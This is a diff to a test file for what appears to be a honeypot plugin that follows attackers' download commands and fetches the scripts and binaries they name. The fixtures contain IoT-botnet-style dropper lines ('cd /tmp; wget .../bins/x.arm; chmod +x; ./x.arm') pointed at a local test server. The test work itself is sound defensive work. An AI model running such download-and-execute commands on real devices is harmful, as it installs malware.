@@ -19,7 +19,7 @@ const ELF = Buffer.concat([
   ]),
   Buffer.alloc(4000, 0xe5),
 ]);
-const SCRIPT = Buffer.from('#!/bin/sh\ncd /tmp\nbusybox wget http://127.0.0.1/x.arm\n');
+const SCRIPT = Buffer.from('#!/bin/sh\ncd /tmp\nchmod +x .x; ./.x telnet\n');
 const FILES = { '/x.sh': SCRIPT, '/bins/x.arm': ELF };
 
 /** Requests the server saw, by path. */
@@ -33,6 +33,11 @@ before(async () => {
     const path = new URL(req.url, 'http://x').pathname;
     hits.set(path, (hits.get(path) ?? 0) + 1);
     if (path === '/slow') return; // never answers: the fetch times out
+    if (path === '/bins.sh') {
+      // a dropper's script: its own download lines point back at this server
+      res.end(`#!/bin/sh\ncd /tmp; wget ${base}/bins/x.arm; chmod +x x.arm; ./x.arm\n`);
+      return;
+    }
     if (path === '/moved') {
       res.writeHead(302, { location: '/bins/x.arm' }).end();
       return;
@@ -239,12 +244,32 @@ test("url-extract's findings are fetched too (after: url-extract)", async () => 
   assert.equal(out.findings[0].offset, 4);
 });
 
+test('a script it downloads is read in the same task: the binaries it fetches come too', async () => {
+  const received = `cd /tmp; wget ${base}/bins.sh; sh bins.sh\r\n`;
+  const out = await run(received);
+  assert.deepEqual(summary(out), [
+    [`${base}/bins.sh`, 'ok', 'wget'],
+    [`${base}/bins/x.arm`, 'ok', 'wget in bins.sh'],
+  ]);
+  assert.equal(out.findings[1].offset, undefined); // not in the attack
+  assert.deepEqual(
+    out.artifacts.map((a) => a.name),
+    ['bins.sh', 'x.arm'],
+  );
+  // within maxDownloads: with 1, the script's targets are counted in a note
+  const capped = await run(received, { config: { maxDownloads: 1 } });
+  assert.deepEqual(capped.findings.at(-1), {
+    type: 'note',
+    value: '1 download target(s) in downloaded scripts not fetched (maxDownloads 1)',
+  });
+});
+
 test('a downloaded script (a text artifact) leads to the next download', async () => {
   const plugin = await loadPlugin(dir, { allowPrivateNetwork: true });
   try {
     const script = `#!/bin/sh\nwget ${base}/bins/x.arm -O /tmp/x; chmod +x /tmp/x; /tmp/x\n`;
     const out = await plugin.runArtifact(
-      { data: script, contentType: 'text/x-shellscript', name: 'x.sh', producer: 'http-download' },
+      { data: script, contentType: 'text/x-shellscript', name: 'x.sh', producer: 'tftp-download' },
       attackFixture({ received: 'wget', remote: ATTACKER }),
     );
     assert.deepEqual(summary(out), [[`${base}/bins/x.arm`, 'ok', 'wget']]);
